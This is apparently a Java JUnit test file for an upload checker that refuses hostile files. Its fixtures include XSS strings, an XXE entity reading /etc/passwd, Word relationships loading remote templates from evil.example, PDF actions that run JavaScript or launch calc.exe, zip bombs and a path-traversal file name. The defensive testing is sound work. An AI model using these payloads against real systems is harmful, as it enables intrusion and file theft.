package org.belay.community;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.zip.DeflaterOutputStream;
import javax.imageio.ImageIO;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.belay.shared.Problem;
import org.belay.shared.Refused;
import org.belay.shared.table.UploadedFile;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What people upload is hostile until shown otherwise. */
class FileCheckTest {

    private static void refused(UploadedFile file, String key) {
        assertThatThrownBy(() -> FileCheck.check(file))
                .isInstanceOfSatisfying(
                        Refused.class,
                        r -> assertThat(r.problems())
                                .extracting(Problem::key)
                                .containsExactly("community.file." + key));
    }

    private static byte[] image(String format) throws IOException {
        var bytes = new ByteArrayOutputStream();
        ImageIO.write(new BufferedImage(20, 10, BufferedImage.TYPE_INT_RGB), format, bytes);
        return bytes.toByteArray();
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    @Test
    void ordinaryFilesAreTaken() throws IOException {
        var workbook = new ByteArrayOutputStream();
        try (var book = new XSSFWorkbook()) {
            book.createSheet("Plan").createRow(0).createCell(0).setCellValue("First");
            book.write(workbook);
        }
        assertThat(FileCheck.check(Uploads.file("Plan.xlsx", workbook.toByteArray()))
                        .kind())
                .isEqualTo(FileKind.EXCEL);
        assertThat(FileCheck.check(Uploads.file("talk.docx", Uploads.zip(Uploads.word())))
                        .kind())
                .isEqualTo(FileKind.WORD);
        assertThat(FileCheck.check(Uploads.file("list.PDF", Uploads.pdf())).kind())
                .isEqualTo(FileKind.PDF);
        assertThat(FileCheck.check(Uploads.file("a.png", image("png"))).kind()).isEqualTo(FileKind.PNG);
        assertThat(FileCheck.check(Uploads.file("a.jpeg", image("jpg"))).kind()).isEqualTo(FileKind.JPEG);
        assertThat(FileCheck.check(Uploads.text("notes.txt", "Größe: 5 < 6\n")).kind())
                .isEqualTo(FileKind.TEXT);
    }

    @Test
    void anEndingThatLiesIsRefused() throws IOException {
        refused(Uploads.file("picture.png", Uploads.pdf()), "lying");
        refused(Uploads.file("paper.pdf", image("png")), "lying");
        refused(Uploads.text("paper.pdf", "just words"), "lying");
        refused(Uploads.file("talk.xlsx", Uploads.zip(Uploads.word())), "lying");
        refused(Uploads.file("run.exe", Uploads.pdf()), "lying");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE html><script>alert(1)</script>",
                "  \n<html><body onload=alert(1)>",
                "\ufeff<svg onload=alert(1)>",
                "<?xml version=\"1.0\"?><x/>",
                "<SCRIPT>alert(1)</SCRIPT>"
            })
    void aPageIsNoPictureAndNoText(String page) {
        refused(Uploads.text("picture.png", page), "unknown");
        refused(Uploads.text("notes.txt", page), "unknown");
    }

    @Test
    void programsAndOldDocumentsAreOfNoKindThatIsShared() {
        refused(Uploads.file("run.txt", new byte[] {'M', 'Z', 0, 1, 2}), "unknown");
        refused(Uploads.file("old.docx", new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0}), "unknown");
        refused(Uploads.file("a.txt", new byte[] {(byte) 0xff, (byte) 0xfe, 'a', 0}), "unknown");
        refused(Uploads.file("half.pdf", bytes("%PDF-1.4 and then nothing")), "unknown");
    }

    @Test
    void aPictureWithSomethingBehindItIsRefused() throws IOException {
        var png = image("png");
        var more = Arrays.copyOf(png, png.length + 20);
        refused(Uploads.file("a.png", more), "unknown");
    }

    @Test
    void emptyAndHugeFilesAreRefused() {
        refused(Uploads.file("a.txt", new byte[0]), "empty");
        refused(Uploads.file("a.pdf", new byte[FileCheck.MOST_BYTES + 1]), "too-large");
    }

    @Test
    void aBombIsNotUnpacked() {
        var parts = Uploads.word();
        parts.put("word/media/image.bin", new byte[60 << 20]);
        refused(Uploads.file("talk.docx", Uploads.zip(parts)), "bomb");
        var many = Uploads.word();
        for (var i = 0; i < 2_100; i++) {
            many.put("word/part" + i + ".xml", new byte[0]);
        }
        refused(Uploads.file("talk.docx", Uploads.zip(many)), "bomb");
    }

    @ParameterizedTest
    @CsvSource({
        "application/vnd.ms-word.document.macroEnabled.main+xml,",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml,"
                + "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml,"
                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml,"
                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml,"
                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml,"
                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/frame",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml,"
                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/subDocument",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml,"
                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"
    })
    void whatCanRunOrLoadsSomethingIsRefused(String mainType, String relation) {
        var relations = relation == null
                ? ""
                : "<Relationship Id=\"r1\" Type=\"%s\" Target=\"https://evil.example/x.dotm\" TargetMode=\"External\"/>"
                        .formatted(relation);
        refused(Uploads.file("talk.docx", Uploads.zip(Uploads.word(mainType, relations))), "active");
    }

    @Test
    void aLinkThatSomebodyMayFollowIsTaken() {
        var link = "<Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                + "hyperlink\" Target=\"https://example.org\" TargetMode=\"External\"/>";
        var word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
        assertThat(FileCheck.check(Uploads.file("talk.docx", Uploads.zip(Uploads.word(word, link))))
                        .kind())
                .isEqualTo(FileKind.WORD);
    }

    @Test
    void aMacroUnderAnotherNameIsFoundByItsType() {
        var parts = Uploads.word();
        parts.put("[Content_Types].xml", Uploads.xml("""
                <Types><Override PartName="/word/document.xml"
                  ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
                  <Default Extension="png" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>"""));
        refused(Uploads.file("talk.docx", Uploads.zip(parts)), "active");
        var hidden = Uploads.word();
        hidden.put("word/vbaProject.bin", new byte[] {1});
        refused(Uploads.file("talk.docx", Uploads.zip(hidden)), "active");
    }

    @Test
    void aDocumentThatDeclaresEntitiesIsRefused() {
        var parts = Uploads.word();
        parts.put(
                "[Content_Types].xml",
                bytes("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><Types>&x;</Types>"));
        refused(Uploads.file("talk.docx", Uploads.zip(parts)), "active");
    }

    @Test
    void anArchiveOrATemplateIsNoDocument() {
        var archive = new java.util.LinkedHashMap<String, byte[]>();
        archive.put("a.txt", bytes("a"));
        refused(Uploads.file("talk.docx", Uploads.zip(archive)), "unknown");
        refused(
                Uploads.file(
                        "talk.docx",
                        Uploads.zip(Uploads.word(
                                "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
                                ""))),
                "unknown");
        refused(Uploads.file("talk.docx", Arrays.copyOf(Uploads.zip(Uploads.word()), 60)), "damaged");
    }

    @Test
    void namesAreKeptWithoutWhatMisleads() {
        assertThat(FileCheck.check(Uploads.text("../../etc/x\\y/a\u202Efdp\n\".txt", "a"))
                        .name())
                .isEqualTo("afdp.txt");
        assertThat(FileCheck.check(Uploads.text("ä".repeat(300) + ".txt", "a")).name())
                .hasSize(FileCheck.LONGEST_NAME)
                .endsWith(".txt");
        refused(Uploads.text("noending", "a"), "name");
        refused(Uploads.text(".txt", "a"), "name");
    }

    private static byte[] pdf(String objects) {
        return pdf(bytes(objects));
    }

    private static byte[] pdf(byte[]... objects) {
        var file = new ByteArrayOutputStream();
        file.writeBytes(bytes("%PDF-1.7\n"));
        for (var one : objects) {
            file.writeBytes(one);
        }
        file.writeBytes(bytes("\ntrailer<</Root 1 0 R>>\n%%EOF\n"));
        return file.toByteArray();
    }

    /** Objects in a packed stream, as most writers put them down. */
    private static byte[] packed(byte[] objects) {
        var file = new ByteArrayOutputStream();
        file.writeBytes(bytes("5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\r\n"));
        var deflated = new ByteArrayOutputStream();
        try (var out = new DeflaterOutputStream(deflated)) {
            out.write(objects);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        file.writeBytes(deflated.toByteArray());
        file.writeBytes(bytes("\nendstream endobj"));
        return file.toByteArray();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "1 0 obj<</OpenAction 2 0 R>>endobj 2 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj",
                "1 0 obj<</OpenAction<</S/Launch/F(calc.exe)>>>>endobj",
                "1 0 obj<</OpenAction <</Type/Action /S /URI /URI(https://evil.example)>>>>endobj",
                "1 0 obj<</Names<</J#61vaScript 3 0 R>>>>endobj",
                "4 0 obj<</Subtype/Widget/A<</S/SubmitForm/F(https://evil.example)>>>>endobj",
                "4 0 obj<</S /ImportData /F(x.fdf)>>endobj",
                "4 0 obj<</S/Rendition/JS(app.alert\\(1\\))>>endobj",
                "4 0 obj<</S/Rendition /JS 9 0 R>>endobj",
                "4 0 obj<</AcroForm<</XFA[(template) 5 0 R]>>>>endobj",
                "4 0 obj<</Subtype/RichMedia>>endobj",
                "4 0 obj<</Type/EmbeddedFile/Length 9>>endobj",
                "4 0 obj<</Names<</EmbeddedFiles 9 0 R>>>>endobj",
                "1 0 obj<</OpenAction%x\n<</S/URI/URI(https://evil.example)>>>>endobj",
                "trailer<</Encrypt 9 0 R>>",
                "trailer<</Encrypt%x\n9 0 R>>",
                "trailer<</Encrypt\0009 0 R>>"
            })
    void aPdfThatDoesSomethingOrIsLockedIsRefused(String objects) {
        refused(Uploads.file("paper.pdf", pdf(objects)), "active-pdf");
        refused(Uploads.file("paper.pdf", pdf(packed(bytes(objects)))), "active-pdf");
    }

    /** Programs that show it pass over a wrong checksum. */
    @Test
    void anActionInADamagedStreamIsFound() {
        var damaged = packed(bytes("<</S/JavaScript/JS(app.alert\\(1\\))>>"));
        damaged[damaged.length - "\nendstream endobj".length() - 1] ^= 1;
        refused(Uploads.file("paper.pdf", pdf(damaged)), "active-pdf");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/Type/ObjStm/Filter/ASCIIHexDecode>>stream\n",
                "/Filter /LZWDecode /Type /Obj#53tm>>stream\n",
                "/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]>>stream\n",
                "/Type/ObjStm/Filter[/FlateDecode/ASCIIHexDecode]>>stream\n",
                "/Type/ObjStm/Filter 6 0 R>>stream\n",
                "/Type/ObjStm%>>stream\n/Filter/LZWDecode>>stream\n",
                "/Type/ObjStm/Filter/FlateDecode/Filter/LZWDecode>>stream\n",
                "/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 3>>>>stream\n",
                "/Type/ObjStm/Filter/FlateDecode/F(objects)>>stream\n",
                "/Type/ObjStm/Filter/FlateDecode>>stream\r"
            })
    void objectsPackedSoThatTheyCannotBeReadAreRefused(String head) {
        refused(Uploads.file("paper.pdf", pdf("5 0 obj<</N 1/First 4" + head + "x\nendstream endobj")), "active-pdf");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/Type/ObjStm",
                "/Type /ObjStm /Extends 4 0 R /Filter /FlateDecode /Length 9",
                "/Filter [ /FlateDecode ] /Type /ObjStm\n"
            })
    void objectsPackedAsMostWritersDoAreTaken(String head) {
        var file = pdf("5 0 obj << /N 1 /First 4 " + head + ">>\nstream\r\nx\nendstream endobj");
        assertThat(FileCheck.check(Uploads.file("paper.pdf", file)).kind()).isEqualTo(FileKind.PDF);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<</S/URI/URI(https://developer.mozilla.org/en-US/docs/Web/JavaScript)>>",
                "BT (HTML/CSS/JavaScript) Tj ET",
                "BT (HTML/CSS/JS, and /JS for short, see /XFA) Tj ET",
                "BT (Product/Launch, and how to /Encrypt it) Tj ET"
            })
    void aPdfThatSpeaksOfScriptsIsTaken(String words) {
        for (var file : List.of(pdf(words), pdf(packed(bytes(words))))) {
            assertThat(FileCheck.check(Uploads.file("paper.pdf", file)).kind()).isEqualTo(FileKind.PDF);
        }
    }

    /** However far behind it stands. */
    @Test
    void anActionBehindManyObjectsIsFound() {
        for (var far = (1 << 16) - 40; far < (1 << 16) + 10; far++) {
            var objects = " ".repeat(far) + "<</S/JavaScript>>";
            refused(Uploads.file("paper.pdf", pdf(packed(bytes(objects)))), "active-pdf");
        }
    }

    @Test
    void aPdfThatOpensAtAPageIsTaken() {
        for (var objects : List.of(
                "1 0 obj<</OpenAction[3 0 R /XYZ null null 0]>>endobj",
                "1 0 obj<</OpenAction <</S /GoTo /D [3 0 R /Fit]>>>>endobj",
                "1 0 obj<</OpenAction 7 0 R>>endobj 7 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj",
                "4 0 obj<</Subtype/Link/A<</S/URI/URI(https://example.org)>>>>endobj /JavaScripts /Launching")) {
            var plain = pdf(objects);
            assertThat(FileCheck.check(Uploads.file("paper.pdf", plain)).kind()).isEqualTo(FileKind.PDF);
            var inStream = pdf(packed(bytes(objects)), bytes("stream\nno flate at all"));
            assertThat(FileCheck.check(Uploads.file("paper.pdf", inStream)).kind())
                    .isEqualTo(FileKind.PDF);
        }
    }

    @Test
    void aPdfThatUnpacksWithoutEndIsRefused() {
        var zeros = packed(new byte[120 << 20]);
        refused(Uploads.file("paper.pdf", pdf(zeros, bytes("\n"), zeros)), "bomb");
    }
}
